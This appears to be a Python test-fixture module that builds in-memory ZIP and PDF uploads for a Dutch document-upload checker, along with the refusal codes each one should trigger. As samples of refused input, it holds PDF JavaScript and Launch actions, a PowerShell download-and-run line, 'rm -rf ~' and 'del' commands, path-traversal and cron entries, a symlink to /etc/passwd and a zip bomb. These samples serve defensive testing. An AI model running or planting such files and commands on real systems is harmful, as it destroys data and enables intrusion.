"""ZIPs and PDFs for the upload content checks (services.documents.zip_check and pdf_check), built in
memory: good ones, and one of each kind the checks refuse."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.integration.document_helpers import EXE, PNG, pdf


def zip_of(*entries: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    """A ZIP (deflated) holding ``entries``: (name or ZipInfo, content)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return out.getvalue()


def pdf_with(catalog: bytes = b"", *objects: bytes, page: bytes | None = None) -> bytes:
    """A minimal well-formed PDF (with a cross-reference table): object 1 the catalog (``catalog``
    added to its dictionary), 2 an empty page tree, 3.. ``objects``; with ``page`` (a page dictionary's
    entries) the tree holds that one page as object 3, and ``objects`` are 4.."""
    bodies = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    if page is not None:
        bodies[1] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
        bodies.append(b"<< /Type /Page /Parent 2 0 R " + page + b" >>")
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate([*bodies, *objects], start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, xref)
    return bytes(out)


def encrypted(user_password: str, script: bool = False, algorithm: str = "RC4-128") -> bytes:
    """A one-page PDF encrypted by ``algorithm`` (AES needs pypdf's crypto extra, ``cryptography``) with the
    owner password 'eigenaar' and ``user_password`` (empty: anyone opens it); ``script``: a JavaScript
    /OpenAction."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    if script:
        action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    writer.encrypt(user_password=user_password, owner_password="eigenaar", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def symlink(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def lying_sizes(data: bytes) -> bytes:
    """``data`` (a ZIP of one entry) with its stated uncompressed size set to 1 byte in both headers."""
    real = zipfile.ZipFile(io.BytesIO(data)).infolist()[0].file_size.to_bytes(4, "little")
    return data.replace(real, (1).to_bytes(4, "little"))


def stated_directory(entries: int, stated: int, zip64: bool = False) -> bytes:
    """The reviewer's reproductions: a ZIP of one 5-byte entry whose central directory lists it
    ``entries`` times, its end record stating ``stated`` entries and the directory's real size. Plain: the
    end record's disk numbers spell its signature again (the last one in the tail is not the record
    zipfile reads). ``zip64``: the size and count stand in a ZIP64 record (with its locator), the end
    record before it states one entry and a directory of 46 bytes."""
    name, data = b"a.txt", b"hello"
    crc, version = zlib.crc32(data), 45 if zip64 else 20
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, 5, 5, len(name), 0) + name + data
    item = struct.pack(
        "<4s6H3L5H2L", b"PK\x01\x02", version, version, 0, 0, 0, 0, crc, 5, 5, len(name), 0, 0, 0, 0, 0, 0
    )
    directory = (item + name) * entries
    if not zip64:
        end = b"PK\x05\x06" * 2 + struct.pack("<HHLLH", stated, stated, len(directory), len(local), 0)
        return local + directory + end
    record = struct.pack(
        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, stated, stated, len(directory), len(local)
    )
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(local) + len(directory), 1)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, 46, len(local), 0)
    return local + directory + record + locator + end


def office(mime: str = "docx", *parts: tuple[str, bytes]) -> bytes:
    """A minimal Word document (``docx``) or OpenDocument text (``odt``), with ``parts`` added."""
    base: list[tuple[str | zipfile.ZipInfo, bytes]]
    if mime == "odt":  # its mimetype first and stored, as OpenDocument requires
        base = [
            (zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.text"),
            ("content.xml", b"<?xml?><x/>"),
        ]
    else:
        base = [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            ("word/document.xml", b"<?xml?><w/>"),
        ]
    return zip_of(*base, *parts)


DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
PLAIN_PDF = pdf_with(b"/OpenAction [0 /Fit]")  # an /OpenAction that only shows the first page
#: a portal's PDF: printing and copying restricted, no password to open it
OWNER_ONLY_PDF = encrypted("")
GOOD_ZIP = zip_of(("tekeningen/", b""), ("tekeningen/gevel.pdf", pdf("gevel")), ("foto.png", PNG))

#: (what, content, the refusal's code, words of the Dutch reason); each as the whole upload
BAD_PDFS = [
    (
        "OpenAction JavaScript",
        pdf_with(b"/OpenAction 3 0 R", b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        "document-pdf-javascript",
        "bevat JavaScript",
    ),
    (
        "document JavaScript",
        pdf_with(b"/Names << /JavaScript 3 0 R >>", b"<< /Names [(a) << /S /JavaScript /JS (x) >>] >>"),
        "document-pdf-javascript",
        "bevat JavaScript",
    ),
    (
        "Launch",
        pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "document-pdf-programma-starten",
        "een programma op de computer start",
    ),
    (
        "EmbeddedFile",
        pdf_with(
            b"/Names << /EmbeddedFiles << /Names [(x.exe) 3 0 R] >> >>",
            b"<< /Type /Filespec /F (x.exe) /EF << /F 4 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ),
        "document-pdf-ingesloten-bestand",
        "een ingesloten bestand",
    ),
    (
        "unreadable with a script",
        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (x) >> >>\n",
        "document-pdf-javascript",
        "bevat JavaScript",
    ),
    (
        "unreadable with an escaped script",
        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript /J#53 (x) >> >>\n",
        "document-pdf-javascript",
        "bevat JavaScript",
    ),
    (
        "XFA form",
        pdf_with(b"/AcroForm << /Fields [] /XFA 3 0 R >>", b"<< /Length 4 >>\nstream\n<x/>\nendstream"),
        "document-pdf-xfa-formulier",
        "een XFA-formulier",
    ),
    (
        "unreadable XFA form",
        b"%PDF-1.4\n1 0 obj << /AcroForm << /X#46A 2 0 R >> >>\n",
        "document-pdf-xfa-formulier",
        "een XFA-formulier",
    ),
    (
        "RichMedia",
        pdf_with(b"/Extra 3 0 R", b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>"),
        "document-pdf-rich-media",
        "(/RichMedia)",
    ),
    (
        "user password",
        encrypted("geheim"),
        "document-pdf-versleuteld",
        "is met een wachtwoord beveiligd; de inhoud kan niet worden gecontroleerd",
    ),
    (
        "owner password and a script",
        encrypted("", script=True),
        "document-pdf-javascript",
        "bevat JavaScript",
    ),
    (
        "user password, AES",
        encrypted("geheim", algorithm="AES-256"),
        "document-pdf-versleuteld",
        "is met een wachtwoord beveiligd",
    ),
    (
        "owner password and a script, AES",
        encrypted("", script=True, algorithm="AES-256"),
        "document-pdf-javascript",
        "bevat JavaScript",
    ),
]
#: scripts and installers Windows runs on a double click: none is an executable by its first bytes
SCRIPTS = [
    ("start.js", b'new ActiveXObject("WScript.Shell").Run("cmd");'),
    ("start.vbs", b'CreateObject("WScript.Shell").Run "cmd"'),
    ("start.hta", b"<html><script>new ActiveXObject('WScript.Shell')</script></html>"),
    ("start.ps1", b"Invoke-WebRequest http://x/y.exe -OutFile y.exe; ./y.exe"),
    ("start.bat", b"@echo off\r\ndel /q *\r\n"),
    ("snelkoppeling.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(68)),
    ("setup.msi", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
    ("schijf.iso", bytes(32769) + b"CD001"),
]
BOMB = zip_of(("nullen.png", PNG + bytes(20 * 1024 * 1024)))  # an image of the type's list, mostly zeros
BAD_ZIPS = [
    (
        "executable",
        zip_of(("tekening.pdf", pdf("a")), ("tekening.exe", EXE)),
        "document-zip-uitvoerbaar",
        "'tekening.exe' in",
    ),
    ("script", zip_of(("start.sh", b"#!/bin/sh\nrm -rf ~\n")), "document-zip-uitvoerbaar", "'start.sh' in"),
    ("parent", zip_of(("../../evil.bat", b"del *\r\n")), "document-zip-pad", "'../../evil.bat'"),
    ("absolute", zip_of(("/etc/cron.d/x", b"* * * * * root sh\n")), "document-zip-pad", "'/etc/cron.d/x'"),
    ("backslash", zip_of(("..\\evil.bat", b"del *\r\n")), "document-zip-pad", "evil.bat"),
    ("drive", zip_of(("C:/Windows/x.txt", b"x")), "document-zip-pad", "'C:/Windows/x.txt'"),
    ("symlink", zip_of((symlink("passwd"), b"/etc/passwd")), "document-zip-link", "'passwd'"),
    ("nested", zip_of(("binnen.zip", GOOD_ZIP)), "document-zip-genest", "'binnen.zip' is zelf een archief"),
    ("7z", zip_of(("x.7z", b"7z\xbc\xaf\x27\x1c" + bytes(40))), "document-zip-genest", "'x.7z' is zelf"),
    ("cab", zip_of(("x.cab", b"MSCF" + bytes(60))), "document-zip-genest", "'x.cab' is zelf een archief"),
    (
        "readme",
        zip_of(("LEESMIJ.txt", b"Zie de tekening.")),
        "document-zip-verkeerd-type",
        "'LEESMIJ.txt' is",
    ),
    (
        "docx",
        zip_of(("brief.docx", office())),
        "document-zip-verkeerd-type",
        "'brief.docx' is application/vnd",
    ),
    (
        "odt",
        zip_of(("brief.odt", office("odt"))),
        "document-zip-verkeerd-type",
        "'brief.odt' is application/",
    ),
    ("bomb", BOMB, "document-zip-bom", "zipbom"),
    ("lying sizes", lying_sizes(BOMB), "document-zip-onleesbaar", "'nullen.png' is beschadigd"),
    ("many", zip_of(*((f"{i}.txt", b"") for i in range(1001))), "document-zip-te-veel-bestanden", "1001"),
    *(
        (f"script {name}", zip_of((name, content)), "document-zip-verkeerd-type", f"'{name}' is")
        for name, content in SCRIPTS
    ),
    (
        "huge directory",
        zip_of(*((f"tekeningen/deel-{i:05d}-{'x' * 40}.txt", b"") for i in range(12_000))),
        "document-zip-te-veel-bestanden",
        "de inhoudsopgave is te groot",
    ),
    ("unreadable", b"PK\x03\x04" + b"\x00" * 200, "document-zip-onleesbaar", "geen leesbaar ZIP-bestand"),
    (
        "PDF with a script",
        zip_of(("plan.pdf", BAD_PDFS[0][1])),
        "document-pdf-javascript",
        "'plan.pdf' in",
    ),
]
